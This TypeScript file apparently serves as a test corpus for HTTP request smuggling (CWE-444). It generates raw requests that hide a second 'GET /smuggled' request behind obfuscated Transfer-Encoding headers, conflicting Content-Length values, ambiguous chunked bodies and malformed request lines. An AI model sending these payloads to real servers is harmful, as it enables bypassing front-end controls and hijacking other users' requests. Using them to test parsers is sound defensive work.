/** Requests on whose end two servers could disagree (CWE-444); each hides a request for `/smuggled` in what may be a body. */
export interface Vector {
  readonly name: string;
  readonly bytes: string;
}

const HIDDEN = 'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n';
const request = (headers: readonly string[], body: string, line = 'POST /api/v1/echo HTTP/1.1', end = '\r\n'): string =>
  `${[line, 'Host: a', ...headers].join(end)}${end}${end}${body}`;

/** Ways to write the header that one server may take for chunked and another not. */
const transferEncodings = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: chunked;a=b',
  'Transfer-Encoding: \u000bchunked',
  'Transfer-Encoding: chunked\u0000',
  'Transfer-Encoding: chun\r\n ked',
  'Transfer-Encoding:\r\n chunked',
  ' Transfer-Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'Transfer\u0000-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding: gzip, chunked',
];

/** Ways to write a length. */
const lengths = (real: number): string[] => [
  `Content-Length: ${real}\r\nContent-Length: 0`,
  `Content-Length: 0\r\nContent-Length: ${real}`,
  `Content-Length: ${real}, 0`,
  `Content-Length: 0, ${real}`,
  `Content-Length: +${real}`,
  `Content-Length: -${real}`,
  `Content-Length: 0x${real.toString(16)}`,
  `Content-Length: ${real}e0`,
  `Content-Length : ${real}`,
  `Content-Length:\u000b${real}`,
  `Content-Length: ${real}\u0000`,
  `Content-Length: 00000000000000000000000000${real}`,
  'Content-Length: 18446744073709551616',
  'Content-Length:',
  `content_length: ${real}`,
  `Content-Length: 0\r\n ${real}`,
];

/** Chunked bodies whose end is a matter of opinion. */
const chunks = [
  `0\r\n\r\n${HIDDEN}`,
  `0 \r\n\r\n${HIDDEN}`,
  `0;ext\r\n\r\n${HIDDEN}`,
  `0;ext="\r\n\r\n${HIDDEN}"\r\n\r\n`,
  `0\n\n${HIDDEN}`,
  `0\r\n${HIDDEN}\r\n`,
  `00000000\r\n\r\n${HIDDEN}`,
  `-0\r\n\r\n${HIDDEN}`,
  `0x0\r\n\r\n${HIDDEN}`,
  `1\r\nZ\r\n0\r\n\r\n${HIDDEN}`,
  `1\r\nZZ\r\n0\r\n\r\n${HIDDEN}`,
  `1\nZ\n0\n\n${HIDDEN}`,
  `ffffffffffffffff1\r\nZ\r\n0\r\n\r\n${HIDDEN}`,
  `1;a\nb\r\nZ\r\n0\r\n\r\n${HIDDEN}`,
  `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`,
  `0\r\nContent-Length: 5\r\n\r\n${HIDDEN}`,
];

const lines = [
  'POST /api/v1/echo HTTP/1.0',
  'POST /api/v1/echo  HTTP/1.1',
  'POST /api/v1/echo HTTP/1.1 ',
  'POST\t/api/v1/echo\tHTTP/1.1',
  'POST /api/v1/echo HTTP/2.0',
  'POST /api/v1/echo\r\n',
  'POST http://b/api/v1/echo HTTP/1.1',
  'GET /api/v1/echo HTTP/1.1',
];

const name = (text: string): string => JSON.stringify(text).slice(0, 60);

/** Every vector; a front and a back that agree see one request of each, or none. */
export const vectors: readonly Vector[] = [
  ...transferEncodings.map((header) => ({
    name: `a length beside ${name(header)}`,
    bytes: request([`Content-Length: ${5 + HIDDEN.length}`, header], `0\r\n\r\n${HIDDEN}`),
  })),
  ...lengths(HIDDEN.length).map((header) => ({ name: `the length ${name(header)}`, bytes: request([header], HIDDEN) })),
  ...chunks.map((body) => ({
    name: `the chunks ${name(body)}`,
    bytes: request(['Transfer-Encoding: chunked', 'Content-Length: 4'], body),
  })),
  ...lines.map((line) => ({
    name: `the line ${name(line)}`,
    bytes: request(['Transfer-Encoding: chunked', 'Content-Length: 3'], `0\r\n\r\n${HIDDEN}`, line),
  })),
  {
    name: 'lines that end in LF only',
    bytes: request(['Content-Length: 0', 'Transfer-Encoding: chunked'], `0\n\n${HIDDEN}`, undefined, '\n'),
  },
];
